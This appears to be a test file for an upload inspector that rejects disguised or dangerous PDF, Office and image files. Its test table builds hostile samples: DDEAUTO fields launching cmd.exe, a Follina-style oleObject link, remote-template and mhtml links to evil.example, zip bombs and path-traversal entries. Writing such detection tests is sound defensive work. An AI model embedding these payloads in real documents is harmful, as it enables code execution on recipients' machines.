// Table of files: the type of each by name and content, and whether a client and the team may upload it.
import { randomBytes } from 'node:crypto'
import { Readable } from 'node:stream'
import { describe, expect, it } from 'vitest'
import type { Actor } from '../../domain/actor.ts'
import type { DocumentInput } from '../../domain/document.ts'
import { contentFaults, kindOf } from '../../domain/file-kind.ts'
import { DomainError } from '../../domain/errors.ts'
import * as make from '../../tests/samples.ts'
import { bytesOf } from './bytes.ts'
import { inspect } from './inspect.ts'

const ann: Actor = { id: 'ann', role: 'client', firstName: 'Ann', lastName: 'Keller' }
const sam: Actor = { id: 'sam', role: 'staff', firstName: 'Sam', lastName: 'Carter' }

/** The bytes through the same interface as stored files. */
const bytesIn = (buffer: Buffer) =>
  bytesOf(
    {
      read: async (_key, { start, end } = { start: 0, end: buffer.length - 1 }) => ({
        stream: Readable.from([buffer.subarray(start, end + 1)]),
        size: buffer.length,
      }),
    },
    'documents/test',
    buffer.length,
  )

const input = (name: string, bytes: Buffer): DocumentInput => ({
  documentURL: '/',
  fileName: name,
  originalName: name,
  fileSize: bytes.length,
  mimeType: '',
  clientFolderId: 'folder',
})

async function verdict(actor: Actor, name: string, bytes: Buffer): Promise<string> {
  const finding =
    bytes.length === 0 ? { kind: null, fault: 'empty' as const, resembles: null } : await inspect(bytesIn(bytes))
  try {
    return kindOf(actor, input(name, bytes), { size: bytes.length, ...finding })
  } catch (error) {
    if (error instanceof DomainError) return error.message
    throw error
  }
}

const zeros = Buffer.alloc(30_000_000)
const program = Buffer.concat([Buffer.from('MZ\u0090\u0000', 'latin1'), Buffer.alloc(500)])
const drawing = Buffer.from(
  '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
)
const page = Buffer.from('<!doctype html><script>alert(1)</script>')
const word = make.docxParts()
const macros = { name: 'word/vbaProject.bin', content: 'x' }
const template = (target: string) => ({
  name: 'word/_rels/settings.xml.rels',
  content: `<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="${target}" TargetMode="External"/></Relationships>`,
})
/** Relationships as in any part's `.rels`. */
const rels = (
  type: string,
  target: string,
  { name = 'word/_rels/document.xml.rels', mode = 'TargetMode="External"' } = {},
) => ({
  name,
  content: `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" ${mode}/></Relationships>`,
})
const wordWith = (...parts: make.ZipEntry[]) => make.zip([...word, ...parts])
const wordOf = (body: string, start = '<?xml version="1.0"?>') =>
  make.zip([
    ...word.filter(({ name }) => name !== 'word/document.xml'),
    {
      name: 'word/document.xml',
      content: `${start}<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>${body}</w:body></w:document>`,
    },
  ])
const run = (text: string) => `<w:r><w:instrText>${text}</w:instrText></w:r>`
const mark = (type: string) => `<w:r><w:fldChar w:fldCharType="${type}"/></w:r>`
const field = (...instruction: string[]) =>
  `<w:p>${mark('begin')}${instruction.join('')}${mark('separate')}${mark('end')}</w:p>`
/** An archive with an additional part of the given content type. */
const withType = (parts: make.ZipEntry[], name: string, type: string, content: Buffer | string = '<a/>') =>
  make.zip([
    ...parts.map((part) =>
      part.name === '[Content_Types].xml'
        ? {
            ...part,
            content: String(part.content).replace(
              '</Types>',
              `<Override PartName="/${name}" ContentType="${type}"/></Types>`,
            ),
          }
        : part,
    ),
    { name, content },
  ])
const excel = make.xlsxParts()
const externalLink = (content: string) =>
  withType(
    excel,
    'xl/externalLinks/externalLink1.xml',
    'application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml',
    content,
  )
const inUtf16 = (text: string) => Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')])

/** The workbook's list of sheets as written by Excel 97. */
const record = (type: number, content: Buffer) => {
  const head = Buffer.alloc(4)
  head.writeUInt16LE(type, 0)
  head.writeUInt16LE(content.length, 2)
  return Buffer.concat([head, content])
}
const sheetRecord = (kind: number) => record(0x85, Buffer.from([0, 4, 0, 0, 0, kind, 1, 0, 0x41]))
/** Another file or program that sheets refer to. */
const linkRecord = (path: string, encoding: 'latin1' | 'utf16le' = 'latin1') =>
  record(
    0x1ae,
    Buffer.concat([Buffer.from([0, 0, path.length, 0, encoding === 'latin1' ? 0 : 1]), Buffer.from(path, encoding)]),
  )
const ownLinkRecord = record(0x1ae, Buffer.from([3, 0, 1, 4]))
const workbook = (...more: Buffer[]) =>
  make.compoundFile([
    {
      name: 'Workbook',
      content: Buffer.concat([
        Buffer.from('0908100000060500', 'hex'),
        Buffer.alloc(12),
        ...more,
        record(0x0a, Buffer.alloc(0)),
      ]),
    },
  ])
const wordText = (text: Buffer) =>
  make.compoundFile([
    { name: 'WordDocument', content: Buffer.concat([Buffer.from('eca5c100', 'hex'), Buffer.alloc(1000), text]) },
    { name: '1Table' },
  ])

/** The pool has the entry after it, as with an object that Word stored. */
const withObjectPool = () => {
  const file = make.compoundFile([
    { name: 'WordDocument' },
    { name: 'ObjectPool', storage: true },
    { name: '_1234567890', storage: true },
  ])
  file.writeUInt32LE(3, file.indexOf(Buffer.from('ObjectPool', 'utf16le')) + 76)
  return file
}

const many = Array.from({ length: 2001 }, (_, i) => ({ name: `word/${i}.xml`, content: 'x' }))
/** Two directory entries point at the same bytes, as in overlapping zip bombs. */
const overlapping = () => {
  const archive = make.zip([
    ...word,
    { name: 'word/a.xml', content: randomBytes(2000) },
    { name: 'word/b.xml', content: randomBytes(2000) },
  ])
  const entry = (name: string) => archive.lastIndexOf(name) - 46
  archive.writeUInt32LE(archive.readUInt32LE(entry('word/a.xml') + 42), entry('word/b.xml') + 42)
  return archive
}
const pdfInZipComment = () => make.zip(word, Buffer.from('\nstartxref\n9\n%%EOF\n'))
const pdfAndZip = () =>
  Buffer.concat([
    make.pdf().subarray(0, -6),
    make.zip([{ name: 'a', content: 'b' }], Buffer.from('\nstartxref\n9\n%%EOF\n')),
  ])

const otherThan = (label: string, really: string | null) =>
  `The file has a ${label} name, but its content is something else${really === null ? '' : ` (${really})`}.`
const forClients = 'Choose a PDF, DOC, DOCX, XLS, or XLSX file.'
const forTeam = 'Choose a PDF, DOC, DOCX, XLS, XLSX, PNG, or JPEG file.'

/** name, bytes, the client's error, the team's error if it differs */
const table: [string, string, Buffer, string, string?][] = [
  ['a PDF', 'a.pdf', make.pdf(), 'pdf'],
  ['a PDF in capitals', 'A.PDF', make.pdf(), 'pdf'],
  ['a DOC', 'a.doc', make.doc(), 'doc'],
  ['a DOCX', 'a.docx', make.docx(), 'docx'],
  ['an XLS', 'a.xls', make.xls(), 'xls'],
  ['an XLSX', 'a.xlsx', make.xlsx(), 'xlsx'],
  ['a PNG', 'a.png', make.png(), forClients, 'png'],
  ['a JPEG', 'a.jpeg', make.jpeg(), forClients, 'jpeg'],
  ['an empty file', 'a.pdf', Buffer.alloc(0), contentFaults.empty],
  ['a file without an extension', 'a', make.pdf(), forClients, forTeam],
  ['a DOCX renamed PDF', 'a.pdf', make.docx(), otherThan('PDF', 'DOCX')],
  ['a PDF renamed DOCX', 'a.docx', make.pdf(), otherThan('DOCX', 'PDF')],
  ['a DOC renamed XLS', 'a.xls', make.doc(), otherThan('XLS', 'DOC')],
  ['an XLSX renamed DOCX', 'a.docx', make.xlsx(), otherThan('DOCX', 'XLSX')],
  ['a DOCX renamed DOC', 'a.doc', make.docx(), otherThan('DOC', 'DOCX')],
  ['a PNG renamed PDF', 'a.pdf', make.png(), otherThan('PDF', 'PNG')],
  ['a program', 'setup.exe', program, forClients, forTeam],
  ['a program renamed PDF', 'a.pdf', program, otherThan('PDF', 'EXE')],
  ['a program behind two extensions', 'a.pdf.exe', program, forClients, forTeam],
  ['a drawing with a script', 'a.svg', drawing, forClients, forTeam],
  ['a drawing renamed DOCX', 'a.docx', drawing, otherThan('DOCX', 'XML')],
  ['a web page renamed PDF', 'a.pdf', page, otherThan('PDF', null)],
  ['a script before the PDF', 'a.pdf', Buffer.concat([page, make.pdf()]), otherThan('PDF', null)],
  ['a PDF that is an archive too', 'a.pdf', pdfAndZip(), contentFaults.disguised],
  ['an archive that claims to end as a PDF', 'a.pdf', pdfInZipComment(), otherThan('PDF', 'DOCX')],
  [
    'a PNG that is an archive too',
    'a.png',
    Buffer.concat([make.png(), make.zip(word)]),
    forClients,
    contentFaults.disguised,
  ],
  ['a plain archive renamed DOCX', 'a.docx', make.zip([{ name: 'a.txt', content: 'a' }]), otherThan('DOCX', 'archive')],
  ['text renamed DOC', 'a.doc', Buffer.from('{\\rtf1 hello}'), otherThan('DOC', 'RTF')],
  [
    'an empty compound file renamed DOC',
    'a.doc',
    make.compoundFile([{ name: 'Other' }]),
    otherThan('DOC', 'Office file of another kind'),
  ],
  ['a PDF cut off', 'a.pdf', make.pdfOfSize(5000).subarray(0, 4000), contentFaults.damaged],
  ['a DOCX cut off', 'a.docx', make.docx().subarray(0, 700), contentFaults.damaged],
  ['an XLS cut off', 'a.xls', make.xls().subarray(0, 4000), contentFaults.damaged],
  ['a PNG cut off', 'a.png', make.png().subarray(0, 50), forClients, contentFaults.damaged],
  ['a DOCM', 'a.docm', make.zip([...make.docxParts('Hi', true), macros]), forClients, forTeam],
  ['a DOCM renamed DOCX', 'a.docx', make.zip([...make.docxParts('Hi', true), macros]), contentFaults.macros],
  ['a DOCX with macros inside', 'a.docx', make.zip([...word, macros]), contentFaults.macros],
  [
    'an XLSX with macro sheets',
    'a.xlsx',
    make.zip([...make.xlsxParts(), { name: 'xl/macrosheets/sheet1.xml', content: 'x' }]),
    contentFaults.macros,
  ],
  [
    'a DOC with macros',
    'a.doc',
    make.compoundFile([{ name: 'WordDocument' }, { name: 'Macros', storage: true }]),
    contentFaults.macros,
  ],
  [
    'an XLS with macros',
    'a.xls',
    make.compoundFile([{ name: 'Workbook' }, { name: '_VBA_PROJECT_CUR', storage: true }]),
    contentFaults.macros,
  ],
  [
    'a DOCX with an embedded object',
    'a.docx',
    make.zip([...word, { name: 'word/embeddings/oleObject1.bin', content: 'x' }]),
    contentFaults.objects,
  ],
  [
    'a DOCX with its template elsewhere',
    'a.docx',
    make.zip([...word, template('https://evil.example/t.dotm')]),
    contentFaults.template,
  ],
  [
    'a DOCX with its template on a share',
    'a.docx',
    make.zip([...word, template('\\\\evil.example\\t.dotm')]),
    contentFaults.template,
  ],
  [
    "a DOCX with its template on its writer's disk",
    'a.docx',
    make.zip([...word, template('file:///C:\\Users\\a\\Normal.dotm')]),
    'docx',
  ],
  [
    'a DOCX with its template elsewhere, in character references',
    'a.docx',
    wordWith(template('&#104;ttps://evil.example/t.dotm')),
    contentFaults.template,
  ],
  [
    'a DOCX whose template is spelled in character references',
    'a.docx',
    wordWith(rels('attached&#84;emplate', 'https://evil.example/t.dotm', { name: 'word/_rels/settings2.xml.rels' })),
    contentFaults.template,
  ],
  [
    'a DOCX with a template by WebDAV',
    'a.docx',
    wordWith(template('file://evil.example/t.dotm')),
    contentFaults.template,
  ],
  [
    'a DOCX with a linked object (Follina)',
    'a.docx',
    wordWith(rels('oleObject', 'https://evil.example/x.html!')),
    contentFaults.external,
  ],
  [
    'a DOCX with an mhtml link (CVE-2021-40444)',
    'a.docx',
    wordWith(rels('oleObject', 'mhtml:https://evil.example/x.html!x-usc:https://evil.example/x.html')),
    contentFaults.external,
  ],
  [
    'a DOCX with an mhtml link that is not said to be external',
    'a.docx',
    wordWith(rels('oleObject', 'mhtml:https://evil.example/x', { mode: '' })),
    contentFaults.external,
  ],
  [
    'a DOCX with a picture on a share',
    'a.docx',
    wordWith(rels('image', '\\\\evil.example\\a.png')),
    contentFaults.external,
  ],
  [
    'a DOCX with a picture on a website',
    'a.docx',
    wordWith(rels('image', 'https://evil.example/a.png')),
    contentFaults.external,
  ],
  [
    'a DOCX with a picture elsewhere, in a part in capitals',
    'a.docx',
    wordWith(rels('image', 'https://evil.example/a.png', { name: 'Word/_RELS/Footer1.xml.RELS' })),
    contentFaults.external,
  ],
  [
    'a DOCX with relationships in UTF-16',
    'a.docx',
    wordWith({
      name: 'word/_rels/document.xml.rels',
      content: inUtf16(rels('image', 'https://evil.example/a.png').content),
    }),
    contentFaults.external,
  ],
  [
    'a DOCX with links to a website and to an email address',
    'a.docx',
    wordWith(
      rels('hyperlink', 'https://example.com/'),
      rels('hyperlink', 'mailto:ann@example.com', { name: 'word/_rels/footer1.xml.rels' }),
    ),
    'docx',
  ],
  [
    'a DOCX with a link to a share',
    'a.docx',
    wordWith(rels('hyperlink', '\\\\evil.example\\share')),
    contentFaults.fileLink,
  ],
  ['a DOCX with a link to a file', 'a.docx', wordWith(rels('hyperlink', 'file:///C:/a.exe')), contentFaults.fileLink],
  [
    'a DOCX with a link to a script',
    'a.docx',
    wordWith(rels('hyperlink', 'ms-msdt:/id PCWDiagnostic')),
    contentFaults.fileLink,
  ],
  [
    'a DOCX with an inserted web page',
    'a.docx',
    wordWith(rels('aFChunk', 'a.html', { mode: '' })),
    contentFaults.inserted,
  ],
  ['a DOCX with a web page as a part', 'a.docx', withType(word, 'word/a.html', 'text/html'), contentFaults.inserted],
  [
    'a DOCX with an internal object',
    'a.docx',
    wordWith(rels('oleObject', 'embeddings/a.dat', { mode: '' })),
    contentFaults.objects,
  ],
  [
    'a DOCX with ActiveX',
    'a.docx',
    withType(word, 'word/controls/a.xml', 'application/vnd.ms-office.activeX+xml'),
    contentFaults.objects,
  ],
  [
    'a DOCX with a workbook of a chart',
    'a.docx',
    wordWith({ name: 'word/embeddings/a.xlsx', content: make.xlsx() }),
    'docx',
  ],
  [
    'a DOCX with a workbook that has macros',
    'a.docx',
    wordWith({ name: 'word/embeddings/a.xlsm', content: make.xlsx() }),
    contentFaults.macros,
  ],
  [
    'a DOCX with a workbook that hides macros',
    'a.docx',
    wordWith({
      name: 'word/embeddings/a.xlsx',
      content: make.zip([...excel, { name: 'xl/vbaProject.bin', content: 'x' }]),
    }),
    contentFaults.macros,
  ],
  [
    'a DOCX with a document within a document within it',
    'a.docx',
    wordWith({
      name: 'word/embeddings/a.docx',
      content: wordWith({ name: 'word/embeddings/b.docx', content: make.docx() }),
    }),
    contentFaults.objects,
  ],
  ['a DOCX with a page number', 'a.docx', wordOf(field(run(' PAGE '))), 'docx'],
  [
    'a DOCX with a DDE field',
    'a.docx',
    wordOf(field(run(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" '))),
    contentFaults.dde,
  ],
  [
    'a DOCX with a DDE field split over runs',
    'a.docx',
    wordOf(field(run('D'), run('DE'), run('AU'), run('TO cmd'))),
    contentFaults.dde,
  ],
  [
    'a DOCX with a DDE field in character references',
    'a.docx',
    wordOf(field(run('&#68;DE c:\\cmd.exe'))),
    contentFaults.dde,
  ],
  [
    'a DOCX with a simple DDE field',
    'a.docx',
    wordOf('<w:p><w:fldSimple w:instr=" dde cmd calc"/></w:p>'),
    contentFaults.dde,
  ],
  [
    'a DOCX with a field whose name is computed',
    'a.docx',
    wordOf(field(mark('begin'), run('QUOTE 68 68 69'), mark('separate'), mark('end'), run(' cmd'))),
    contentFaults.dde,
  ],
  [
    'a DOCX with a page number within a condition',
    'a.docx',
    wordOf(field(run(' IF '), mark('begin'), run('PAGE'), mark('end'), run(' = 1 "a"'))),
    'docx',
  ],
  [
    'a DOCX with a DDE field in its footer',
    'a.docx',
    withType(
      word,
      'word/f.xml',
      'application/vnd.openxmlformats-officedocument.wordprocessingml.footer+xml',
      '<w:ftr xmlns:w="a"><w:fldSimple w:instr="DDE a"/></w:ftr>',
    ),
    contentFaults.dde,
  ],
  ...[
    ' INCLUDEPICTURE "https://evil.example/a.png" \\* MERGEFORMATINET ',
    ' includepicture \\\\\\\\evil.example\\\\share\\\\a.png \\d ',
    ' INCLUDETEXT "\\\\evil.example\\a.docx" ',
    ' LINK Excel.Sheet.8 "file://evil.example/a.xls" "" \\a ',
    ' IMPORT http://evil.example/a.png ',
    ' INCLUDEPICTURE mhtml:https://evil.example/a ',
    ' RD //evil.example/a.docx ',
    ' DATABASE \\d "\\\\evil.example\\a.mdb" ',
  ].map((instruction): [string, string, Buffer, string] => [
    `a DOCX with the field${instruction}`,
    'a.docx',
    wordOf(field(run(instruction))),
    contentFaults.external,
  ]),
  [
    'a DOCX with an included picture whose address is computed',
    'a.docx',
    wordOf(field(run(' INCLUDEPICTURE '), mark('begin'), run('QUOTE 104 116'), mark('separate'), mark('end'))),
    contentFaults.external,
  ],
  [
    'a DOCX with a simple field that includes text',
    'a.docx',
    wordOf('<w:p><w:fldSimple w:instr=" INCLUDETEXT &quot;https://evil.example/a&quot;"/></w:p>'),
    contentFaults.external,
  ],
  [
    'a DOCX with a picture from its writer’s disk',
    'a.docx',
    wordOf(field(run(' INCLUDEPICTURE "C:\\\\Users\\\\Ann\\\\logo.png" \\* MERGEFORMAT '))),
    'docx',
  ],
  [
    'a DOCX with a field that links to a share',
    'a.docx',
    wordOf(field(run(' HYPERLINK "\\\\\\\\evil.example\\\\share" '))),
    contentFaults.fileLink,
  ],
  [
    'a DOCX with a field that links to a website',
    'a.docx',
    wordOf(field(run(' HYPERLINK "https://example.com/" \\o "Link" '))),
    'docx',
  ],
  ['a DOCX with the words DDE and DDEAUTO in its text', 'a.docx', make.docx('DDEAUTO and DDE'), 'docx'],
  [
    'a DOCX with entities of its own',
    'a.docx',
    wordOf('<w:p>&b;</w:p>', '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]>'),
    contentFaults.damaged,
  ],
  ['a DOCX whose text is no XML', 'a.docx', wordOf('<w:p>'), contentFaults.damaged],
  [
    'an XLSX with a DDE link',
    'a.xlsx',
    externalLink('<externalLink xmlns="a"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'),
    contentFaults.dde,
  ],
  [
    'an XLSX with values from another workbook',
    'a.xlsx',
    make.zip([
      ...excel,
      rels('externalLinkPath', 'file:///C:/b.xlsx', { name: 'xl/externalLinks/_rels/externalLink1.xml.rels' }),
    ]),
    contentFaults.workbookLink,
  ],
  [
    'an XLSX with a sheet of macros under another name',
    'a.xlsx',
    withType(excel, 'xl/worksheets/sheet9.xml', 'application/vnd.ms-excel.macrosheet+xml'),
    contentFaults.macros,
  ],
  ['an XLS with sheets and charts', 'a.xls', workbook(sheetRecord(0), sheetRecord(2)), 'xls'],
  ['an XLS with a sheet of Excel 4 macros', 'a.xls', workbook(sheetRecord(0), sheetRecord(1)), contentFaults.macros],
  ['an XLS behind a password', 'a.xls', workbook(record(0x2f, Buffer.alloc(6)), sheetRecord(0)), contentFaults.locked],
  ['a DOC with a page number', 'a.doc', wordText(Buffer.from('\u0013 PAGE \u0014 1 \u0015', 'latin1')), 'doc'],
  [
    'a DOC with a DDE field',
    'a.doc',
    wordText(Buffer.from('\u0013 DDEAUTO cmd "/k calc" \u0015', 'latin1')),
    contentFaults.dde,
  ],
  [
    'a DOC with a DDE field in two bytes a character',
    'a.doc',
    wordText(Buffer.from('\u0013 DDEAUTO cmd "/k calc" \u0015', 'utf16le')),
    contentFaults.dde,
  ],
  ...(['latin1', 'utf16le'] as const).map((encoding): [string, string, Buffer, string] => [
    `a DOC with a picture on a share, in ${encoding}`,
    'a.doc',
    wordText(Buffer.from('\u0013 INCLUDEPICTURE "\\\\\\\\evil.example\\\\a.png" \\d \u0014\u0001\u0015', encoding)),
    contentFaults.external,
  ]),
  [
    'a DOC with a picture from its writer’s disk',
    'a.doc',
    wordText(Buffer.from('\u0013 INCLUDEPICTURE "C:\\\\a.png" \\d \u0014\u0001\u0015', 'latin1')),
    'doc',
  ],
  [
    'a DOC with a link to a website',
    'a.doc',
    wordText(Buffer.from('\u0013 HYPERLINK "https://example.com/" \u0014Link\u0015', 'latin1')),
    'doc',
  ],
  [
    'a DOC with a package',
    'a.doc',
    make.compoundFile([{ name: 'WordDocument' }, { name: '\u0001Ole10Native' }]),
    contentFaults.objects,
  ],
  [
    'a DOC with an empty pool of objects',
    'a.doc',
    make.compoundFile([{ name: 'WordDocument' }, { name: 'ObjectPool', storage: true }]),
    'doc',
  ],
  ['a DOC with a pool of objects', 'a.doc', withObjectPool(), contentFaults.objects],
  [
    'an XLS with an equation object',
    'a.xls',
    make.compoundFile([{ name: 'Workbook' }, { name: 'Equation Native' }]),
    contentFaults.objects,
  ],
  ['an XLS with a DDE link', 'a.xls', workbook(sheetRecord(0), linkRecord('cmd\u0003/c calc')), contentFaults.dde],
  [
    'an XLS with a DDE link in two bytes a character',
    'a.xls',
    workbook(sheetRecord(0), linkRecord('cmd\u0003/c calc', 'utf16le')),
    contentFaults.dde,
  ],
  [
    'an XLS with values from a workbook on a share',
    'a.xls',
    workbook(sheetRecord(0), linkRecord('\u0001\u0001@evil.example\u0003share\u0003a.xls')),
    contentFaults.workbookLink,
  ],
  ['an XLS with references to its own sheets', 'a.xls', workbook(sheetRecord(0), ownLinkRecord), 'xls'],
  [
    'a DOCX behind a password',
    'a.docx',
    make.compoundFile([{ name: 'EncryptionInfo' }, { name: 'EncryptedPackage' }]),
    contentFaults.locked,
  ],
  [
    'a DOCX with a locked part',
    'a.docx',
    make.zip([...word, { name: 'word/styles.xml', content: 'x', encrypted: true }]),
    contentFaults.locked,
  ],
  ['a bomb of zeros', 'a.docx', make.zip([...word, { name: 'word/media/a.bin', content: zeros }]), contentFaults.bomb],
  [
    'a claim of 300 MB',
    'a.docx',
    make.zip([...word, { name: 'word/a.xml', content: randomBytes(4_000_000), claimedSize: 300_000_000 }]),
    contentFaults.bomb,
  ],
  ['overlapping entries', 'a.docx', overlapping(), contentFaults.bomb],
  ['2,004 entries', 'a.xlsx', make.zip([...make.xlsxParts(), ...many]), contentFaults.bomb],
  [
    'an entry that climbs out',
    'a.docx',
    make.zip([...word, { name: '../../evil.sh', content: 'x' }]),
    contentFaults.damaged,
  ],
  ['an entry twice', 'a.docx', make.zip([...word, word[2] as make.ZipEntry]), contentFaults.damaged],
]

describe('D1, D3: inspecting an upload', () => {
  it.each(table)('%s (%s)', async (_title, name, bytes, toldClient, toldTeam = toldClient) => {
    expect(await verdict(ann, name, bytes)).toBe(toldClient)
    expect(await verdict(sam, name, bytes)).toBe(toldTeam)
  })

  it('rejects a zip bomb in less than a tenth of a second', async () => {
    const bomb = make.zip([...word, { name: 'word/media/a.bin', content: zeros }])
    const before = process.cpuUsage()
    await inspect(bytesIn(bomb))
    const { user, system } = process.cpuUsage(before)
    expect(user + system).toBeLessThan(100_000)
  })

  it('never crashes on random bytes or on valid files with flipped bytes', async () => {
    const starts = [make.pdf(), make.docx(), make.doc(), make.xls(), make.png(), make.jpeg()]
    for (let round = 0; round < 1200; round++) {
      const file = Buffer.from(starts[round % starts.length] as Buffer)
      for (let flips = 0; flips < 1 + (round % 20); flips++)
        file[Math.floor(Math.random() * file.length)] = Math.floor(Math.random() * 256)
      await expect(inspect(bytesIn(file))).resolves.toHaveProperty('kind')
    }
  })
})

describe('D3: a declared file type', () => {
  const said = (more: Partial<DocumentInput>) => () =>
    kindOf(
      ann,
      { ...input('a.pdf', make.pdf()), ...more },
      { size: make.pdf().length, kind: 'pdf', fault: null, resembles: null },
    )

  it.each([
    [{ fileSize: 1 }, 'fileSize'],
    [{ mimeType: 'text/html' }, 'mimeType'],
    [{ fileName: 'a.docx' }, 'fileName'],
    [{ fileName: 'a.exe' }, 'fileName'],
    [{ originalName: 'a.docx', fileName: 'a.docx' }, 'documentURL'],
  ])('%j does not match', (more, path) => {
    expect(said(more)).toThrow(expect.objectContaining({ issues: [expect.objectContaining({ path })] }))
  })

  it.each([
    { mimeType: 'application/pdf' },
    { mimeType: 'application/octet-stream' },
    { mimeType: '' },
    { fileName: 'a1b2c3' },
  ])('%j matches', (more) => {
    expect(said(more)()).toBe('pdf')
  })
})
